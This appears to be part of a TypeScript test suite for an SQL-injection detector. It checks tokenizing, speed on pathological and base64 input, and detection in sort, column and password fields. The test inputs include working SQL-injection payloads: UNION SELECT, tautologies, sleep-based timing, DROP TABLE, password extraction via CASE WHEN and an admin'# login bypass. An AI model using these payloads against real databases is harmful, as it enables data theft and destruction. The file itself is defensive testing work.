  assert.deepEqual(kinds("/*!50000UnIoN*/ SELECT 0x41,'a''b',\"c\\\"d\",`e`"), [
    'word:union', 'word:select', 'num:0x41', ',:,', "str:'a''b'", ',:,', 'str:"c\\"d"', ',:,', 'qid:`e`',
  ]);
  assert.deepEqual(kinds('1union--x\n@@version #c'), ['num:1', 'word:union', 'comment:--x', 'var:@@version', 'comment:#c']);
  assert.deepEqual(kinds("a<=>b||c::int @> '{}' ->> 'k'"), [
    'word:a', 'op:<=>', 'word:b', 'op:||', 'word:c', 'op:::', 'word:int', 'op:@>', "str:'{}'", 'op:->>', "str:'k'",
  ]);
  assert.deepEqual(kinds("N'x' _utf8'y' 1.e(2) .5e-3"), ["str:N'x'", "str:_utf8'y'", 'num:1.e', '(:(', 'num:2', '):)', 'num:.5e-3']);
  const open = tokenize("'abc");
  assert.equal(open.length, 1);
  assert.equal(open[0]!.open, true);
  const unterminated = tokenize('a /* never closed');
  assert.equal(unterminated[1]!.k, 'comment');
  assert.equal(unterminated[1]!.open, true);
});

test('a token stream read on demand gives the tokens of tokenize, also past a cap that is lifted', () => {
  const inputs = ["/*!50000UnIoN*/ SELECT 0x41,'a''b' -- x\n1.e(2) #c\n@@version `q` $$b$$ N'x'", "it's 1 or 2 -- days", 'a '.repeat(100)];
  for (const input of inputs) {
    for (const from of [0, 3]) {
      const all = tokenize(input, from);
      const stream = new TokenStream(input, from, 5);
      for (let i = 0; stream.fill(i); i += 2);
      assert.deepEqual(stream.raw, all.slice(0, 5));
      stream.uncap();
      stream.fillAll();
      assert.deepEqual(stream.raw, all);
      assert.deepEqual(stream.sig, all.filter((t) => t.k !== 'comment' && !(t.k === 'num' && dotE(input, t))));
      // (also when it reads a one-byte copy of an ASCII input, as the detector gives it)
      const bytes = new TokenStream(input, from, Infinity, input.length, Uint8Array.from(input, (ch) => ch.charCodeAt(0)));
      bytes.fillAll();
      assert.deepEqual(bytes.raw, all);
    }
  }
});

test('never throws, on random bytes, huge repeats and unbalanced input', () => {
  let seed = 12345;
  const rand = () => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed;
  };
  const alphabet = "'\"`()[]{};,.-#/*!@:=<>|&^~+%\\$ \n\tabcSELECTunionOR019xX_";
  for (let n = 0; n < 400; n++) {
    const len = rand() % 300;
    let s = '';
    for (let i = 0; i < len; i++) {
      s += rand() % 4 === 0 ? String.fromCharCode(rand() % 0x2fff) : alphabet[rand() % alphabet.length];
    }
    assert.doesNotThrow(() => findings(s, 3));
  }
  const nasty = [
    "'".repeat(5000), '"'.repeat(5001), '('.repeat(20_000), ')'.repeat(20_000), '/*'.repeat(5000), '*/'.repeat(5000),
    '/*!'.repeat(5000), '--'.repeat(5000), 'select '.repeat(5000), 'union select '.repeat(3000), 'sleep('.repeat(5000),
    "' or '".repeat(3000), '1 or 1=1 '.repeat(3000), '@@'.repeat(5000), '\\'.repeat(5000), '\u0000'.repeat(1000),
    '\ud800'.repeat(1000), 'case when '.repeat(3000), 'concat(0x41,'.repeat(4000), '(select '.repeat(4000),
    'a.'.repeat(10_000), '::int'.repeat(5000), '; drop table x'.repeat(2000), '$$'.repeat(5000), 'x IN ('.repeat(5000),
  ];
  for (const s of nasty) assert.doesNotThrow(() => findings(s, 3), s.slice(0, 20));
});

test('runs in linear time: 200 KB of prose and of pathological input each well under 50 ms', () => {
  const prose = "It's a truth universally acknowledged, that a single man (in possession of a good fortune) must be in want " +
    'of a wife; however little known the feelings or views of such a man may be on his first entering a neighbourhood, ' +
    'this truth is so well fixed in the minds of the surrounding families, that he is considered the rightful ' +
    '"property" of some one or other of their daughters -- 1 or 2 of them at least. Select your size from the list. ';
  const cases: Record<string, string> = {
    prose: prose.repeat(Math.ceil(200_000 / prose.length)).slice(0, 200_000),
    words: 'or and select from '.repeat(10_000),
    parens: '(('.repeat(50_000),
    sleeps: 'sleep('.repeat(33_000),
    unions: 'union select 1,'.repeat(13_000),
    stacked: ';select 1 from t where a='.repeat(8000),
    quotes: "a' or '".repeat(28_000),
    calls: 'concat(substr(ascii(x),1),'.repeat(8000),
    comments: '/**/'.repeat(50_000),
  };
  // CPU time of this process (other processes on a shared machine do not count), best of five runs.
  const cpuMs = (run: () => void): number => {
    let best = Infinity;
    for (let i = 0; i < 5; i++) {
      const before = process.cpuUsage();
      run();
      const used = process.cpuUsage(before);
      best = Math.min(best, (used.user + used.system) / 1000);
    }
    return best;
  };
  for (const [name, value] of Object.entries(cases)) {
    findings(value, 3); // warm up
    const ms = cpuMs(() => findings(value, 3));
    assert.ok(ms < 250, `${name}: ${ms.toFixed(1)} ms for ${value.length} chars`);
  }
  // 10 KB of ordinary text: well under a millisecond.
  const ten = prose.repeat(Math.ceil(10_240 / prose.length)).slice(0, 10_240);
  for (let i = 0; i < 50; i++) findings(ten, 3);
  const avg = cpuMs(() => {
    for (let i = 0; i < 100; i++) findings(ten, 3);
  }) / 100;
  assert.ok(avg < 5, `10 KB prose: ${avg.toFixed(3)} ms`);
});

/** Deterministic base64 of about `n` characters (random bytes from a linear congruential generator). */
function base64Blob(n: number, seed: number): string {
  const bytes = Buffer.alloc(Math.ceil((n * 3) / 4));
  let s = seed;
  for (let i = 0; i < bytes.length; i++) {
    s = (Math.imul(s, 1103515245) + 12345) | 0;
    bytes[i] = s >>> 24;
  }
  return bytes.toString('base64').slice(0, n);
}

test('an attack hidden in the middle of a long base64 value is still found', () => {
  const blob = base64Blob(100_000, 1);
  const cases: Array<[string, string]> = [
    ["' UNION SELECT 1,2,3-- ", 'sqli-union/1/5'],
    [' 3union select 1,2 ', 'sqli-union/1/5'],
    ["/x' or 1=1-- ", 'sqli-tautology/1/5'],
    ['+sleep(5)+', 'sqli-time/1/5'],
    [';drop table users--', 'sqli-stacked/1/5'],
    ['/information_schema.tables/', 'sqli-catalog/1/5'],
  ];
  for (const [attack, expected] of cases) {
    for (const paranoia of [1, 3] as const) {
      const got = findings(blob + attack + blob, paranoia).map((f) => `${f.ruleId}/${f.paranoia}/${f.score}`).join(' ');
      assert.equal(got, expected, `${attack} at paranoia ${paranoia}`);
    }
  }
  // Base64 alone (`/`, `+`, `=` padding, mixed-case words, digits glued to letters) is no SQL.
  for (const seed of [2, 3, 4]) assert.deepEqual(findings(base64Blob(50_001, seed) + '==', 3), []);
});

test('runs in linear time on long base64: 1 MB well under 200 ms', () => {
  const value = base64Blob(1_000_000, 5);
  findings(value, 3); // warm up
  let best = Infinity;
  for (let i = 0; i < 3; i++) {
    const before = process.cpuUsage();
    findings(value, 3);
    const used = process.cpuUsage(before);
    best = Math.min(best, (used.user + used.system) / 1000);
  }
  assert.ok(best < 200, `1 MB of base64: ${best.toFixed(1)} ms`);
});

test('a subquery, CASE or IF( in an ordering or column-list parameter is paranoia 1; elsewhere as before', () => {
  const at = (name: string, value: string): Finding[] => {
    const out: Finding[] = [];
    sqliDetector.detect(value, { source: 'query', name, isName: false, paranoia: 1, layers: [] }, (f) => out.push(f));
    return out;
  };
  for (const name of ['sort', 'orderBy', 'order_by', 'fields', 'options[sort]', 'dir', 'sortOrder', 'columns']) {
    assert.equal(at(name, "(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN name ELSE price END)")[0]?.ruleId, 'sqli-boolean', name);
    assert.equal(at(name, 'id,(SELECT password FROM users LIMIT 1) AS name').length, 1, name);
    assert.equal(at(name, 'IF(1=1,name,price)').length, 1, name);
  }
  for (const value of ['-created_at,title', 'name desc, price asc', 'price:asc', 'if (ready) first']) assert.deepEqual(at('sort', value), [], value);
  // a column list turned into a query by a FROM clause and a comment
  assert.equal(at('columns', 'username,password FROM users--')[0]?.ruleId, 'sqli-boolean');
  assert.deepEqual(at('columns', 'name from catalog'), []);
  assert.deepEqual(at('dir', 'asc'), []);
  assert.deepEqual(at('q', 'id,(SELECT password FROM users LIMIT 1) AS name'), []);
});

test('in a password field a quote and a comment are paranoia 2; an injected condition is paranoia 1 as anywhere', () => {
  const at = (value: string, name: string) => {
    const found: Finding[] = [];
    sqliDetector.detect(value, { source: 'body', name, isName: false, paranoia: 3, layers: [] }, (f) => found.push(f));
    return found;
  };
  for (const [value, name] of [["P@ssw0rd!'#", 'Password'], ["Tr0ub4dor&3';", 'user[passwd]'], ["abc'-- ", 'new_password'], ["x'#", 'pwd']]) {
    const found = at(value, name);
    assert.ok(found.length > 0 && found.every((f) => f.paranoia >= 2), `${name}=${value}: ${JSON.stringify(found.map((f) => `${f.ruleId}@${f.paranoia}`))}`);
  }
  assert.ok(at("' OR '1'='1", 'password').some((f) => f.paranoia === 1 && f.ruleId === 'sqli-tautology'));
  assert.ok(at("x' UNION SELECT password FROM users--", 'password').some((f) => f.paranoia === 1));
  assert.ok(at("admin'#", 'username').some((f) => f.paranoia === 1 && f.ruleId === 'sqli-comment-cut'), 'the login bypass in the user name');
});
